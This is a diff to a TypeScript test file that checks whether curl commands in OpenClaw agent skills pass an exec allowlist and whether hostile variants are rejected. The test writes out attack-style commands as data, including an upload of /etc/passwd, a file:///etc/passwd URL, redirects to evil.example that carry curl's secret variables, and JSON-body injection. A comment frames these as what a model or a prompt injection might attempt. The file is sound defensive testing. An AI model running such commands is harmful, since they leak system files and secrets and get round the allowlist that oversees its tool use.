@@ -6,7 +6,7 @@ import { existsSync, readdirSync, readFileSync } from "node:fs";
 import { join } from "node:path";
 import { pathToFileURL } from "node:url";
 import { describe, expect, it } from "vitest";
-import { emitTarget, openclawBrains, repoRoot, skillCommand } from "../../test/helpers.js";
+import { emitTarget, inJsonString, openclawBrains, repoRoot, skillCommand } from "../../test/helpers.js";
 import openclaw from "./index.js";
 import { mcpToolName } from "./mcp-names.js";
 
@@ -49,7 +49,7 @@ const uriEncode = (s: string) => encodeURIComponent(s).replace(/[!'()*]/g, (c) =
  * `--url-query` values, JSON-escaped in the `--data-raw` body, as is in a header; curl's own `{{NAME}}`
  * variables (imported with `--variable %NAME`) are left as they are.
  */
-function filledIn(command: string, url = "https://status.example.com/health?full=1"): string {
+function filledIn(command: string, url = "https://status.example.com/health?full=1", booleans = new Set<string>()): string {
   const variables = new Set([...command.matchAll(/--variable '%([A-Za-z0-9_]+)/g)].map((m) => m[1]));
   const words = command.match(/'[^']*'|\S+/g)!;
   return words
@@ -60,7 +60,8 @@ function filledIn(command: string, url = "https://status.example.com/health?full
         if (before === "-H") return HOSTILE;
         // The skill says a value may not hold `{` where curl expands its own {{variables}}.
         if (before === "--expand-header") return HOSTILE.replace(/[{}]/g, "");
-        if (before === "--data-raw") return JSON.stringify(HOSTILE).slice(1, -1);
+        // In the body: a JSON string's content, or (out of quotes) a JSON value.
+        if (before === "--data-raw") return inJsonString(word, offset) ? JSON.stringify(HOSTILE).slice(1, -1) : booleans.has(name) ? "true" : "3";
         return offset === 1 && before !== "--url-query" ? url : uriEncode(HOSTILE);
       });
     })
@@ -68,19 +69,21 @@ function filledIn(command: string, url = "https://status.example.com/health?full
 }
 
 /** Commands that a model (or a prompt injection) might try instead of a skill's own: each must be an allowlist miss. */
-function hostileVariants(command: string): [string, string][] {
-  const filled = filledIn(command);
+function hostileVariants(command: string, booleans: Set<string>): [string, string][] {
+  const filled = filledIn(command, undefined, booleans);
   const variants: [string, string][] = [
     ["an added option that writes a file", filled.replace(/^curl /, "curl -o /tmp/brainc-x ")],
     ["an added option that reads a config file", filled.replace(/^curl /, "curl -K /tmp/brainc-x ")],
     ["an added upload of a file", `${filled} --data-binary @/etc/passwd`],
   ];
   // A URL that starts with a placeholder picks the host (brain-format.md allows `url: "{{url}}"`), but only an http(s) URL.
-  if (/ '\{\{\w+\}\}/.test(command)) variants.push(["a file: URL", filledIn(command, "file:///etc/passwd")]);
+  if (/ '\{\{\w+\}\}/.test(command)) variants.push(["a file: URL", filledIn(command, "file:///etc/passwd", booleans)]);
   else variants.push(["another host", filled.replace(/'https?:\/\/[^/']+/, "'https://evil.example")], ["curl's own variable sent elsewhere", filled.replace(/'https?:\/\/[^/']+/, "'https://evil.example/{{X}}")]);
   if (/(?:'https?:\/\/[^']*\/[^']*|--url-query '[^']*)\{\{\w+\}\}/.test(command)) variants.push(["an unencoded URL value", filled.replace(uriEncode(HOSTILE), "x/../admin?y=1&z")]);
   const variable = /--variable '%([A-Za-z0-9_]+)/.exec(command)?.[1];
   if (variable && /--expand-header '[^']*\{\{[a-z]\w*\}\}/.test(command)) variants.push(["a header value that names a secret curl would expand there", filled.replace(HOSTILE.replace(/[{}]/g, ""), `{{${variable}}}`)]);
+  const body = /--data-raw ('[^']*')/.exec(command)?.[1] ?? "";
+  if ([...body.matchAll(/\{\{\w+\}\}/g)].some((m) => !inJsonString(body, m.index))) variants.push(["a body value out of quotes that adds a member", filled.replace(/([:,[])3([,}\]])/, '$1 3, "to": "x"$2')]);
   if (/--data-raw '[^']*\{\{\w+\}\}/.test(command)) variants.push(["a body value that ends its JSON string", filled.replace(JSON.stringify(HOSTILE).slice(1, -1), 'x","channel":"other')]);
   return variants;
 }
@@ -104,10 +107,12 @@ describe.skipIf(!installed)(`skills' commands pass OpenClaw's exec allowlist ana
       expect(command, skill.path).toMatch(/^curl [^\n]+$/);
       // The command as written (placeholders unfilled, which URL values may not hold) is analysed; as filled in, it is allowed too.
       expect({ path: skill.path, analysisOk: (await check(command, allowlist)).analysisOk }).toEqual({ path: skill.path, analysisOk: true });
-      const filled = filledIn(command);
+      // Boolean arguments (the skill lists their types) get `true` where the body takes a JSON value.
+      const booleans = new Set([...skill.contents.matchAll(/^- `(\w+)` \(boolean/gm)].map((m) => m[1]));
+      const filled = filledIn(command, undefined, booleans);
       const r = await check(filled, allowlist);
       expect({ path: skill.path, command: filled, analysisOk: r.analysisOk, allowlistSatisfied: r.allowlistSatisfied, reason: r.authorizationPlan?.reason }).toEqual({ path: skill.path, command: filled, analysisOk: true, allowlistSatisfied: true, reason: undefined });
-      for (const [what, c] of hostileVariants(command)) {
+      for (const [what, c] of hostileVariants(command, booleans)) {
         expect({ path: skill.path, what, allowlistSatisfied: (await check(c, allowlist)).allowlistSatisfied }).toEqual({ path: skill.path, what, allowlistSatisfied: false });
       }
     }
